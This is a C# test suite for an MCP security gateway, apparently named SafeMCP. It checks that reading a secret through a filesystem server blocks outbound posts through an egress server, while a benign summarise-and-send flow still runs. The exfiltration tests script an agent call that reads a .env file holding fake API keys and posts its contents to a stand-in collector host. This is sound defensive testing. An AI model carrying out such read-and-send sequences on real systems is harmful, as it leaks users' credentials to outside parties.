using System.Text.Json;
using ModelContextProtocol.Client;
using SafeMcp.Contracts;
using SafeMcp.Testing;

namespace SafeMcp.Gateway.Tests;

/// <summary>
/// One agent, two upstream servers behind one profile endpoint (the reference filesystem server and our egress
/// server): the session spans both, so a secret read on one stops egress through the other, while a benign flow runs
/// through. Driven by the C# SDK's client over HTTP in both protocol revisions (2025-11-25 initialize and stateful;
/// 2026-07-28 per request) and over stdio.
/// </summary>
public sealed class CrossServerTests(GatewayFixture fixture) : IClassFixture<GatewayFixture>, IAsyncLifetime
{
    private const string Secret = "sk-live-51HxQk2eZvKYlo2C9d8F7gT3";
    private readonly TempDirectory _directory = new("safemcp-gateway-cross");
    private string _files = "";
    private string _egressLog = "";

    public Task InitializeAsync()
    {
        _files = Path.Combine(_directory.Path, "files");
        Directory.CreateDirectory(_files);
        File.WriteAllText(Path.Combine(_files, ".env"), $"OPENAI_API_KEY={Secret}\nDATABASE_URL=postgres://app:hunter2@db.internal/app\n");
        File.WriteAllText(Path.Combine(_files, "notes.txt"), "Standup: the release moves to Thursday; Ana owns the changelog.");
        _egressLog = Path.Combine(_directory.Path, "egress.jsonl");
        return Task.CompletedTask;
    }

    private string ConfigYaml() => $"""
        silo: {fixture.Silo.BaseAddress}
        tenants:
          - name: tests
            apiKey: {fixture.ApiKey}
        {GatewayHttpProcess.CallersYaml}    servers:
              - name: files
                command: node
                args: [{JsonSerializer.Serialize(NodeServers.Filesystem)}, {JsonSerializer.Serialize(_files)}]
              - name: egress
                command: node
                args: [{JsonSerializer.Serialize(NodeServers.Egress)}]
                env: {"{"} EGRESS_LOG: {JsonSerializer.Serialize(_egressLog)} {"}"}
            profiles:
              - name: work
                servers: [files, egress]
        """;

    private async Task<GatewayHttpProcess> StartHttpAsync()
    {
        var config = Path.Combine(_directory.Path, "gateway.yaml");
        File.WriteAllText(config, ConfigYaml());
        return await GatewayHttpProcess.StartAsync(config);
    }

    private static McpClientOptions Options(string protocolVersion, List<string>? approvals = null)
    {
        var options = GatewaySession.ClientOptions();
        options.ProtocolVersion = protocolVersion;
        if (approvals is not null)
        {
            // The agent's human, who approves what they are asked (by elicitation, or inside a multi-round-trip request).
            options.Capabilities = new ModelContextProtocol.Protocol.ClientCapabilities { Elicitation = new ModelContextProtocol.Protocol.ElicitationCapability { Form = new() } };
            options.Handlers.ElicitationHandler = (request, _) =>
            {
                lock (approvals)
                {
                    approvals.Add(request?.Message ?? "");
                }
                return ValueTask.FromResult(new ModelContextProtocol.Protocol.ElicitResult
                {
                    Action = "accept",
                    Content = new Dictionary<string, JsonElement> { ["approve"] = JsonSerializer.SerializeToElement(true) },
                });
            };
        }
        return options;
    }

    private string Egressed => File.Exists(_egressLog) ? File.ReadAllText(_egressLog) : "";

    private async Task ExfiltrationIsStoppedAsync(McpClient client)
    {
        var tools = (await client.ListToolsAsync()).Select(t => t.Name).ToArray();
        Assert.Contains("files__read_text_file", tools);
        Assert.Contains("egress__http_post", tools);

        var read = await client.CallToolAsync("files__read_text_file", new Dictionary<string, object?> { ["path"] = Path.Combine(_files, ".env") });
        var post = await client.CallToolAsync("egress__http_post", new Dictionary<string, object?> { ["url"] = "https://collector.example.net/drop", ["body"] = ReferenceServerTests.Text(read) });
        var after = (await client.ListToolsAsync()).Select(t => t.Name).ToArray();

        Assert.Contains(Secret, ReferenceServerTests.Text(read));
        Assert.True(post.IsError, ReferenceServerTests.Text(post));
        Assert.Contains("SafeMCP denied", ReferenceServerTests.Text(post));
        Assert.DoesNotContain(Secret, Egressed);
        // The egress upstream's list reflects what the session withholds after the secret.
        Assert.DoesNotContain("egress__http_post", after);
        Assert.Contains("files__read_text_file", after);
    }

    private async Task BenignFlowRunsAsync(McpClient client)
    {
        var notes = await client.CallToolAsync("files__read_text_file", new Dictionary<string, object?> { ["path"] = Path.Combine(_files, "notes.txt") });
        var write = await client.CallToolAsync("files__write_file", new Dictionary<string, object?> { ["path"] = Path.Combine(_files, "summary.txt"), ["content"] = "Release on Thursday; Ana has the changelog." });
        var send = await client.CallToolAsync("egress__send_message", new Dictionary<string, object?> { ["channel"] = "team", ["text"] = "Summary written: release on Thursday." });

        Assert.False(notes.IsError == true, ReferenceServerTests.Text(notes));
        Assert.False(write.IsError == true, ReferenceServerTests.Text(write));
        Assert.False(send.IsError == true, ReferenceServerTests.Text(send));
        Assert.True(File.Exists(Path.Combine(_files, "summary.txt")));
        Assert.Contains("release on Thursday", Egressed);
    }

    [Theory]
    [InlineData("2025-11-25")]
    [InlineData("2026-07-28")]
    public async Task A_secret_read_on_one_upstream_stops_egress_through_another_over_http(string protocolVersion)
    {
        await using var gateway = await StartHttpAsync();
        var handle = $"exfil-{Guid.NewGuid():N}";
        await using var client = await gateway.ConnectAsync("work", handle, Options(protocolVersion));

        await ExfiltrationIsStoppedAsync(client);

        // One session across both servers, each decision naming its server.
        using var silo = fixture.NewClient();
        var snapshot = await silo.GetSessionAsync(GatewayHttpProcess.SessionOf(handle));
        Assert.Equal([("files", "read_text_file"), ("egress", "http_post")], snapshot.Decisions.Select(d => (d.Server, d.Tool)));
        Assert.Equal(Verdict.Deny, snapshot.Decisions[^1].Verdict);
    }

    [Theory]
    [InlineData("2025-11-25")]
    [InlineData("2026-07-28")]
    public async Task A_benign_flow_across_two_upstreams_runs_uninterrupted_over_http(string protocolVersion)
    {
        await using var gateway = await StartHttpAsync();
        var approvals = new List<string>();
        await using var client = await gateway.ConnectAsync("work", $"benign-{Guid.NewGuid():N}", Options(protocolVersion, approvals));

        await BenignFlowRunsAsync(client);

        // A client that could ask its human was never made to: writing a new file is no destruction.
        Assert.Empty(approvals);
    }

    [Fact]
    public async Task A_secret_read_on_one_upstream_stops_egress_through_another_over_stdio()
    {
        await using var session = await GatewaySession.StartProfileAsync(fixture, "work", ConfigYaml());

        await ExfiltrationIsStoppedAsync(session.Client);
    }

    [Fact]
    public async Task Two_callers_without_a_handle_never_share_a_session_and_one_caller_gets_one_session()
    {
        await using var gateway = await StartHttpAsync();
        await using var first = await gateway.ConnectAsync("work", handle: null, Options("2026-07-28"));
        await first.CallToolAsync("files__read_text_file", new Dictionary<string, object?> { ["path"] = Path.Combine(_files, ".env") });
        await using var second = await gateway.ConnectAsync("work", handle: null, Options("2026-07-28"));

        // Same caller, nothing sent: the caller's one session, tainted by the first client's read.
        var post = await second.CallToolAsync("egress__http_post", new Dictionary<string, object?> { ["url"] = "https://collector.example.net", ["body"] = "hello" });
        using var silo = fixture.NewClient();
        var snapshot = await silo.GetSessionAsync(GatewayHttpProcess.SessionOf("default"));

        Assert.True(post.IsError, ReferenceServerTests.Text(post));
        Assert.Contains("secrets", snapshot.View.Taint);
    }

    public Task DisposeAsync()
    {
        _directory.Dispose();
        return Task.CompletedTask;
    }
}
